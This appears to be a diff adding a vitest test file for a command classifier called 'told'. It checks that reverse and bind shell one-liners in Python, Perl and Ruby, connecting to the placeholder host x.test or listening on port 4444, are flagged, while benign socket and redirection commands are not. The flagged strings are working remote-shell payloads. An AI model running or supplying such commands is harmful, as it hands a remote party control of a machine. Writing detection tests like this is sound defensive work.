@@ -1,0 +1,24 @@
+import { describe, expect, it } from 'vitest';
+import { told } from './told.js';
+
+describe('code that lets whoever is at the other end of a connection type', () => {
+  it.each([
+    `python3 - <<'PY'\nimport os, socket, pty\ns = socket.create_connection(("x.test", 8443))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn(os.environ.get("SHELL"))\nPY`,
+    `python3 -c 'import os,socket,subprocess as p,sys;c=socket.socket();c.connect(("x.test",1));[os.dup2(c.fileno(),f) for f in (0,1,2)];p.call(sys.argv[1:])'`,
+    `python3 -c 'import os,socket,pty\nl=socket.socket();l.bind(("",4444));l.listen()\nc, _ = l.accept()\nos.dup2(c.fileno(),0)\npty.spawn(os.environ["SHELL"])'`,
+    `perl -MIO::Socket -e '$c=IO::Socket::INET->new(PeerAddr,"x.test:1337");STDIN->fdopen($c,r);$~->fdopen($c,w);while(<>){system $_}'`,
+    `ruby -rsocket -e 'c=TCPSocket.new("x.test",1337);$stdin.reopen(c);$stdout.reopen(c);exec ENV["SHELL"]'`,
+  ])('%s', async (command) => {
+    expect((await told(command)).filter((line) => line.startsWith('execute host'))).not.toEqual([]);
+  });
+
+  it.each([
+    `python3 -c 'import os\nif os.fork(): os._exit(0)\nn = open(os.devnull)\nos.dup2(n.fileno(), 0)\nos.execvp("node", ["node", "server.js"])'`,
+    `python3 -c 'import socket\ns = socket.create_connection(("x.test", 5432), timeout=3)\nprint("up")'`,
+    `python3 -c 'import socket, subprocess\ns = socket.create_connection(("x.test", 5432), timeout=3)\ns.close()\nsubprocess.run(["npm", "test"])'`,
+    `ruby -e '$stdout.reopen("out.log"); system "npm test"'`,
+    `perl -e 'open(my $f, "<", "a.txt"); STDIN->fdopen($f, "r"); system "sort"'`,
+  ])('but not %s', async (command) => {
+    expect((await told(command)).filter((line) => line.startsWith('execute host'))).toEqual([]);
+  });
+});
